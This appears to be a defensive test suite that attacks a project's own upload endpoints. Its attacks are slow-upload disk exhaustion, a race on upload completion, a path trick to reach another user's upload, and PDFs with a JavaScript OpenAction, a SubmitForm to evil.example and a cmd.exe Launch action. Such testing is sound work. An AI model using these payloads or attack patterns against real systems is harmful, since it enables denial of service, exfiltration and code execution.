// Attacks on uploads: unfinished forms, repeated completion, foreign uploads and active documents.
import { randomBytes } from 'node:crypto'
import { readdir, readFile, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { formBounds } from '#server/kernel/http/form-gate.ts'
import { pictureFile, registration } from '#server/testing/world/people.ts'
import { type Attack, type Ground, shortly } from './attack.ts'
import { newcomer, newEmail, newPlace, type Town } from './town.ts'
import { announce, bytesIn, registrationBytes } from './withheld-forms.ts'

const sockets = 60
const formBytes = 19_000_000
const watchedMs = 12_000
const pictureBytes = async () => new Uint8Array(await (await pictureFile()).arrayBuffer())

/** Sixty sockets send their forms but for the last bytes: the most that lay on the disk, and what they were told. */
const withhold = async (
  { product, dataDir }: Ground,
  place: (n: number) => string,
  beside: () => unknown,
) => {
  const form = await registrationBytes(newEmail(), await pictureBytes(), formBytes)
  const beginning = form.subarray(0, formBytes - 20)
  const uploads = Array.from({ length: sockets }, (_, n) =>
    announce(product.port, place(n), formBytes, beginning),
  )
  let most = 0
  try {
    const doing = beside()
    for (const until = performance.now() + watchedMs; performance.now() < until;) {
      most = Math.max(most, await bytesIn(join(dataDir, 'uploads')))
      await new Promise(resolve => setTimeout(resolve, 200))
    }
    await doing
    return { most, refused: uploads.filter(each => each.status() !== undefined).length }
  } finally {
    for (const each of uploads) each.socket.destroy()
  }
}

const megabytes = (bytes: number) => `${(bytes / 1e6).toFixed(0)} MB`

const fillTheDisk: Attack = {
  name: '3',
  tried:
    'Sixty sockets each send 19 MB of a registration and withhold the last bytes: from one address, then from sixty',
  run: async ground => {
    const place = newPlace()
    let [neighbour, latecomer] = [0, 0]
    const here = await withhold(
      ground,
      () => place,
      async () => {
        const form = registration(newEmail())
        neighbour = (await ground.town.ask({ url: '/api/User/register', form, ip: newPlace() })).status
      },
    )
    const everywhere = await withhold(
      ground,
      () => newPlace(),
      async () => {
        // Those that withhold had time to show that nothing more comes.
        await new Promise(resolve => setTimeout(resolve, formBounds.graceMs + 1_000))
        const form = registration(newEmail())
        latecomer = (await ground.town.ask({ url: '/api/User/register', form, ip: newPlace() })).status
      },
    )
    return {
      held:
        here.most <= formBounds.openAddress.bytes &&
        everywhere.most <= formBounds.openAll.bytes &&
        neighbour === 200 &&
        latecomer === 200,
      observation: `one address held ${megabytes(here.most)} of the disk at most (${here.refused} refused, and somebody else registered meanwhile: ${neighbour}); sixty held ${megabytes(everywhere.most)} (${everywhere.refused} refused, and somebody else registered meanwhile: ${latecomer})`,
    }
  },
}

const tus = (town: Town, method: string, url: string, token: string, more: RequestInit = {}) =>
  fetch(town.origin + url, {
    ...more,
    method,
    headers: { 'tus-resumable': '1.0.0', authorization: `Bearer ${token}`, ...more.headers },
  })
const begin = async (town: Town, token: string, bytes: number): Promise<string> => {
  const reply = await tus(town, 'POST', '/api/uploads', token, {
    headers: { 'upload-length': String(bytes) },
  })
  return reply.headers.get('location')!
}
const patch = (town: Town, url: string, token: string, offset: number, body: Uint8Array<ArrayBuffer>) =>
  tus(town, 'PATCH', url, token, {
    headers: { 'upload-offset': String(offset), 'content-type': 'application/offset+octet-stream' },
    body,
  })
const idOf = (url: string): string => url.slice('/api/uploads/'.length)

const tenAtOnce: Attack = {
  name: '10',
  tried: 'One picture is finished ten times at once',
  run: async ({ town }) => {
    const { token } = await newcomer(town)
    const picture = await pictureBytes()
    const url = await begin(town, token, picture.length)
    await patch(town, url, token, 0, picture)
    const answers = await Promise.all(
      Array.from({ length: 10 }, () =>
        town.ask<{ picture: { hash: string } }>({
          url: '/api/Upload/finish-picture',
          body: { uploadId: idOf(url) },
          token,
        }),
      ),
    )
    const hashes = new Set(answers.map(each => each.data?.picture.hash))
    return {
      held: answers.every(each => each.status === 200) && hashes.size === 1,
      observation: `${answers.map(each => each.status).join(', ')}; ${hashes.size} picture`,
    }
  },
}

const strangers: Attack = {
  name: '11',
  tried: 'HEAD, PATCH and DELETE of one’s own upload with ?x=/ and the id of a stranger’s',
  run: async ({ town }) => {
    const [owner, thief] = [await newcomer(town), await newcomer(town)]
    const ownerUpload = await begin(town, owner.token, 1_000)
    await patch(town, ownerUpload, owner.token, 0, new Uint8Array(100))
    const mine = `${await begin(town, thief.token, 1_000)}?x=/${idOf(ownerUpload)}`
    const response = await tus(town, 'HEAD', mine, thief.token)
    const appended = await patch(town, mine, thief.token, 100, new Uint8Array(10))
    const deleted = await tus(town, 'DELETE', mine, thief.token)
    const after = await tus(town, 'HEAD', ownerUpload, owner.token)
    const [read, left] = [response, after].map(each => each.headers.get('upload-offset'))
    return {
      held: read === '0' && !appended.ok && left === '100',
      observation: `read: the offset of his own (${read}); append where the owner stands: ${appended.status}; delete: ${deleted.status}, his own; the owner’s is at ${left} as before`,
    }
  },
}

const paper = (words: string): File =>
  new File(
    [`%PDF-1.4\n1 0 obj<</Type/Catalog${words}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`],
    'papers.pdf',
  )

/** Three megabytes of streams in which nothing is, as the words of a paper. */
const emptyStreams = `>>endobj\n${'2 0 obj<</Length 0>>stream\n\nendstream endobj\n'.repeat(66_666)}3 0 obj<<`

/** The papers of a person, one of them with these words. */
export const paperForm = (words = emptyStreams): FormData => {
  const form = new FormData()
  form.append('IdentityDocument', paper(words))
  form.append('IdentityDocumentExpiresOn', '2099-12-31')
  form.append('ProofOfAddress', paper(''))
  return form
}

const handIn = (town: Town, token: string, words: string) =>
  town.ask({ url: '/api/KYC/personal-kyc', form: paperForm(words), token })

const activePapers: Attack = {
  name: '20, papers',
  tried: 'A PDF with a script, one with an action and one that starts a program are handed in',
  run: async ({ town }) => {
    const { token } = await newcomer(town)
    const answers = []
    for (const words of [
      '/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>',
      '/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>',
      '/OpenAction<</S/Launch/F(cmd.exe)>>',
    ])
      answers.push(await handIn(town, token, words))
    return { held: answers.every(each => each.code === '31'), observation: answers.map(shortly).join(', ') }
  },
}

/** Whether any file of a folder holds these words. */
const isWrittenIn = async (folder: string, words: string): Promise<boolean> => {
  for (const name of await readdir(folder, { recursive: true })) {
    const path = join(folder, name)
    if (!(await stat(path)).isFile()) continue
    if ((await readFile(path)).includes(words)) return true
  }
  return false
}

const openDocuments: Attack = {
  name: '20, documents',
  tried: 'A document is handed in, and a thief who has the files of the data folder looks for its words',
  run: async ({ town, dataDir }) => {
    const { token } = await newcomer(town)
    const words = `secret-${randomBytes(8).toString('hex')}`
    const answer = await handIn(town, token, `/Title(${words})`)
    const isWritten = await isWrittenIn(join(dataDir, 'files'), words)
    return {
      held: answer.status === 200 && !isWritten,
      observation: `handed in: ${shortly(answer)}; its words are ${isWritten ? 'readable' : 'in no file'}`,
    }
  },
}

export const uploadAttacks = [fillTheDisk, tenAtOnce, strangers, activePapers, openDocuments]
